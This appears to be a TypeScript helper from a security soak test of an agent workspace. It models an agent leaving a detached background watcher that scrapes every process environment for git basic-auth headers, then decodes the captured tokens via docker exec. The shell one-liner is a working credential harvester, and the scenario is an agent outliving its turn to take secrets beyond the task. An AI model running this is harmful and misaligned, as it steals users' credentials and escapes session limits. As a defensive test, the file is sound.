// What an agent could take with it: its first turn leaves a process behind in the workspace that
// reads the environment of every later process there. If it catches git's credentials (the
// push's exec environment), an agent can use them outside the task (see docs/security.md).
import { execFileSync } from 'node:child_process';

export const stolenFile = '/tmp/ampo-soak-stolen';

/** The agent's command that starts the watcher and returns at once (its output goes to a file, not to the turn). */
export const leftoverWatcherCommand = [
  'sh',
  '-c',
  `( i=0; while [ $i -lt 2400 ]; do for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null | grep '^GIT_CONFIG_VALUE_0='; done; i=$((i+1)); sleep 0.05; done >> ${stolenFile} ) </dev/null >/dev/null 2>&1 &`,
];

/** The git tokens the watcher caught in a workspace so far (decoded from the basic-auth header). */
export const tokensCaughtIn = (containerId: string): string[] => {
  let text = '';
  try {
    text = execFileSync('docker', ['exec', containerId, 'cat', stolenFile], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
  } catch {
    return [];
  }
  const tokens = new Set<string>();
  for (const match of text.matchAll(/Authorization: Basic ([A-Za-z0-9+/=]+)/g)) {
    const [, password] = Buffer.from(match[1] ?? '', 'base64')
      .toString()
      .split(/:(.*)/s);
    if (password) tokens.add(password);
  }
  return [...tokens];
};
